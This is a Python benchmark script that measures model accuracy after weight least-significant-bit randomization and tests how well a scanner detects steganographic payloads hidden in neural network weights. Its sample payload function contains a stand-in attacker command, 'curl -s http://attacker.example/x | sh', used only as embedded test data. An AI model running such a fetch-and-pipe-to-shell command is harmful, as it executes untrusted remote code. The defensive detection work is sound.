#!/usr/bin/env python3
"""Measurements behind README "Weight-level CDR" (run with the python that has torch):

    /usr/bin/python3 bench/stego_eval.py accuracy [--reps 5]    # top-1 after --randomize-lsb N, N = 1..mantissa
    /usr/bin/python3 bench/stego_eval.py detect                 # scan --stego detection / false-positive rates

Binaries: MODELCDR_BIN (default build/modelcdr) and MODELCDR_LAB (default: modelcdr-lab beside it).
Prints Markdown tables.
"""
from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import numpy as np

HERE = Path(__file__).resolve().parent
REPO = HERE.parent
sys.path.insert(0, str(REPO / "tests" / "e2e"))
import stego_digits  # noqa: E402

import torch  # noqa: E402

BIN = Path(os.environ.get("MODELCDR_BIN") or REPO / "build" / "modelcdr")
LAB = Path(os.environ.get("MODELCDR_LAB") or BIN.parent / "modelcdr-lab")
MANT = {"float32": 23, "float16": 10, "bfloat16": 7}


def run(*args):
    p = subprocess.run([str(a) for a in args], capture_output=True)
    if p.returncode not in (0, 1):
        raise SystemExit(f"{args}: rc={p.returncode}\n{p.stderr.decode()}")
    return p.stdout.decode()


def cmd_accuracy(a):
    model, (xte, yte) = stego_digits.train_cnn(seed=a.seed)
    sd = model.state_dict()
    with tempfile.TemporaryDirectory() as d:
        d = Path(d)
        print(f"digits CNN (seed {a.seed}), held-out n={len(yte)}; {a.reps} disarm runs per cell (fresh CSPRNG seed each)\n")
        for dtype in a.dtypes:
            tsd = {k: v.to(getattr(torch, dtype)) for k, v in sd.items()}
            base = stego_digits.accuracy(tsd, xte, yte)
            inp = d / f"{dtype}.pt"
            torch.save(tsd, inp)
            print(f"### {dtype}: baseline top-1 {base:.2f}%\n")
            print("| N | mean top-1 | min | max | max abs. change (points) |")
            print("|---|---|---|---|---|")
            for n in range(1, MANT[dtype] + 1):
                accs = []
                for r in range(a.reps):
                    out = d / "out.pt"
                    run(BIN, "disarm", inp, "-o", out, "-q", f"--randomize-lsb={dtype}={n}")
                    accs.append(stego_digits.accuracy(torch.load(out, weights_only=True), xte, yte))
                accs = np.array(accs)
                print(f"| {n} | {accs.mean():.2f} | {accs.min():.2f} | {accs.max():.2f} | {np.abs(accs - base).max():.2f} |")
            print()


def text_payload(n):
    base = (b"#!/bin/sh\n# stage 2\ncurl -s http://attacker.example/x | sh\n" +
            open(REPO / "README.md", "rb").read())
    return (base * (n // len(base) + 1))[:n]


def scores(path):
    return json.loads(run(LAB, "score", "--json", path))


def cmd_detect(a):
    import torchvision as tv

    with tempfile.TemporaryDirectory() as d:
        d = Path(d)
        models = {}
        torch.manual_seed(0)
        for seed in range(a.digits_seeds):
            m, _ = stego_digits.train_cnn(seed=seed)
            models[f"digits-trained (seed {seed})"] = m.state_dict()
        sd0 = models["digits-trained (seed 0)"]
        models["digits-trained, bf16 upcast to f32"] = {k: v.to(torch.bfloat16).float() for k, v in sd0.items()}
        for name in a.torchvision:
            models[f"torchvision {name} (init)"] = getattr(tv.models, name)().state_dict()
        paths = {}
        for name, sd in models.items():
            p = d / (str(len(paths)) + ".pt")
            torch.save(sd, p)
            paths[name] = p
        biggest = max(sum(v.numel() for v in sd.values() if v.is_floating_point()) for sd in models.values())
        pay = {"random": os.urandom(biggest * 8 // 8 + 16), "text": text_payload(biggest * 8 // 8 + 16)}
        for kind, data in pay.items():
            (d / f"{kind}.bin").write_bytes(data)

        print("### False positives on clean models (threshold 6)\n")
        print("| model | float tensors tested | flagged | max score |")
        print("|---|---|---|---|")
        for name, p in paths.items():
            s = [x for x in scores(p) if x["tested"]]
            fl = sum(x["score"] >= 6 for x in s)
            print(f"| {name} | {len(s)} | {fl} | {max(x['score'] for x in s):.1f} |")
        print()
        print("### Detection: share of tested tensors flagged (each tensor filled to the given share of its capacity)\n")
        print("| model | payload | k | 1% | 10% | 50% | 100% |")
        print("|---|---|---|---|---|---|---|")
        for name, p in paths.items():
            for kind in pay:
                for k in (1, 4, 8):
                    row = []
                    for fill in (0.01, 0.10, 0.50, 1.0):
                        out = d / "emb.pt"
                        run(LAB, "embed", p, "-o", out, "--payload", d / f"{kind}.bin", "--bits", k, "--fill", fill)
                        s = [x for x in scores(out) if x["tested"]]
                        fl = sum(x["score"] >= 6 for x in s)
                        row.append(f"{fl}/{len(s)}")
                    print(f"| {name} | {kind} | {k} | " + " | ".join(row) + " |")
        print()


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    p = sub.add_parser("accuracy")
    p.add_argument("--reps", type=int, default=5)
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--dtypes", nargs="+", default=["float32", "float16", "bfloat16"])
    p = sub.add_parser("detect")
    p.add_argument("--digits-seeds", type=int, default=3)
    p.add_argument("--torchvision", nargs="*", default=["resnet18", "mobilenet_v2"])
    a = ap.parse_args()
    {"accuracy": cmd_accuracy, "detect": cmd_detect}[a.cmd](a)


if __name__ == "__main__":
    main()
